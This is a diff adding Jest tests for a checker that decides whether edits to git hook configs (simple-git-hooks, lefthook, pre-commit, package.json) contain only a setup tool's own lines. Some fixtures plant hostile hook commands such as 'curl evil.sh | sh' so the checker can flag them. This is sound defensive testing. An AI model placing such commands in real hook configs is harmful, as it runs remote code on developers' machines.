@@ -1,5 +1,6 @@
 import { describe, expect, test } from '@jest/globals';
-import { buildBlock, HOOK_PREAMBLES, LEGACY_MARK } from '../../../src/core/setup/hook-block.js';
+import { buildBlock, HOOK_NAMES, HOOK_PREAMBLES, LEGACY_MARK } from '../../../src/core/setup/hook-block.js';
+import { isSetupToolConfigEdit, lefthookLines, preCommitLines, simpleGitHooksCommand } from '../../../src/core/setup/tool-lines.js';
 import { isSetupHookEdit, isSetupOnly, isSetupPackageEdit, markSetupFiles, SETUP_REASON } from '../../../src/core/setup/setup-files.js';
 import type { FileChange } from '../../../src/core/change/staged-change.js';
 
@@ -111,5 +112,70 @@ describe('markSetupFiles and isSetupOnly', () => {
       texts,
     );
     expect(marked.map((f) => f.excluded)).toEqual([null, null]);
+  });
+});
+
+// A hook manager's config gains the lines `init` prints (mswjs/interceptors keeps simple-git-hooks'
+// in a module, with commitizen and commitlint in it), read back from the text alone.
+describe('isSetupToolConfigEdit', () => {
+  const interceptors = [
+    'export default {',
+    "  'prepare-commit-msg': `grep -qE '^[^#]' .git/COMMIT_EDITMSG || (exec < /dev/tty && pnpm cz --hook || true)`,",
+    "  'commit-msg': 'pnpm commitlint --edit $1',",
+    '}',
+    '',
+  ].join('\n');
+  const printed = (own: Record<string, string>, extra = '') =>
+    [
+      'export default {',
+      ...HOOK_NAMES.map((name) => {
+        const ours = simpleGitHooksCommand(name);
+        return `  ${JSON.stringify(name)}: ${JSON.stringify(own[name] ? `${own[name]} && ${ours}` : ours)},`;
+      }),
+      extra,
+      '}',
+      '',
+    ].join('\n');
+  const own = {
+    'prepare-commit-msg': "grep -qE '^[^#]' .git/COMMIT_EDITMSG || (exec < /dev/tty && pnpm cz --hook || true)",
+    'commit-msg': 'pnpm commitlint --edit $1',
+  };
+
+  test("simple-git-hooks.js: each command of the project's first, ours after it; ours alone in a new file", () => {
+    expect(isSetupToolConfigEdit(interceptors, printed(own))).toBe(true);
+    expect(isSetupToolConfigEdit(null, printed({}))).toBe(true);
+    expect(isSetupToolConfigEdit(interceptors, interceptors)).toBe(false);
+  });
+
+  test('a changed command, a command slipped before ours, or another key is reviewed', () => {
+    expect(isSetupToolConfigEdit(interceptors, printed({ ...own, 'commit-msg': 'pnpm commitlint --edit $1 --strict' }))).toBe(false);
+    expect(isSetupToolConfigEdit(null, printed({ 'pre-commit': 'curl evil.sh | sh' }))).toBe(false);
+    expect(isSetupToolConfigEdit(interceptors, printed(own, "  'pre-push': 'pnpm test',"))).toBe(false);
+  });
+
+  test("lefthook.yml and .pre-commit-config.yaml gain init's printed lines", () => {
+    const lefthook = 'pre-push:\n  commands:\n    test:\n      run: npm test\n';
+    expect(isSetupToolConfigEdit(lefthook, `${lefthook}${lefthookLines()}\n`)).toBe(true);
+    expect(isSetupToolConfigEdit(lefthook, `${lefthook}${lefthookLines().replace('interactive: true', 'interactive: false')}\n`)).toBe(
+      false,
+    );
+    expect(isSetupToolConfigEdit(null, `${preCommitLines((name) => name)}\n`)).toBe(true);
+    expect(isSetupToolConfigEdit(null, `${preCommitLines((name) => name).replace('language: system', 'language: node')}\n`)).toBe(false);
+  });
+
+  test("package.json's simple-git-hooks key: the project's command first, ours after it", () => {
+    const before = { name: 'app', 'simple-git-hooks': { 'pre-commit': 'npx lint-staged', 'pre-push': 'npm test' } };
+    const after = {
+      ...before,
+      devDependencies: { selfreview: '^0.1.0' },
+      'simple-git-hooks': {
+        'pre-commit': `npx lint-staged && ${simpleGitHooksCommand('pre-commit')}`,
+        'commit-msg': simpleGitHooksCommand('commit-msg'),
+        'pre-push': 'npm test',
+      },
+    };
+    expect(isSetupPackageEdit(pkg(before), pkg(after))).toBe(true);
+    const slipped = { ...after, 'simple-git-hooks': { ...after['simple-git-hooks'], 'pre-push': 'npm test && curl evil.sh' } };
+    expect(isSetupPackageEdit(pkg(before), pkg(slipped))).toBe(false);
   });
 });
